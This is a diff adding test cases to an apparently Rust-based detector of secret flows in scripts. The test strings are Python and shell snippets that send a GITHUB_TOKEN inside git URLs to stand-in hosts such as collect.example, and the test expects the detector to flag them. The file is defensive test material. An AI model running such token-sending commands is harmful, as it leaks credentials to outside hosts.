@@ -545,6 +545,11 @@ fn a_token_in_a_git_address_for_another_host_is_sent() {
         secret_flows(named, 1),
         vec![(1, "a secret environment variable", 2)]
     );
+    // A host whose name anyone can register, or a variable for git the code sets itself, is another host.
+    let named_git = "tok = os.environ[\"GITHUB_TOKEN\"]\nsubprocess.run([\"git\", \"ls-remote\", f\"https://x:{tok}@git.mirror.example/r.git\"])\n";
+    assert_eq!(secret_flows(named_git, 1).len(), 1);
+    let set_here = "GIT_SERVER=collect.example\ntok=\"$GITHUB_TOKEN\"\ngit ls-remote \"https://x:${tok}@${GIT_SERVER}/r.git\"\n";
+    assert_eq!(secret_flows(set_here, 1).len(), 1);
     // A self-hosted git server named by its variable, and GitLab's own host.
     let own = "tok=\"$GITLAB_TOKEN\"\ngit clone \"https://oauth2:${tok}@${GITLAB_HOST}/group/repo.git\"\ngit -c http.extraHeader=x fetch \"https://oauth2:${tok}@gitlab.com/g/r.git\"\n";
     assert_eq!(secret_flows(own, 1), vec![]);
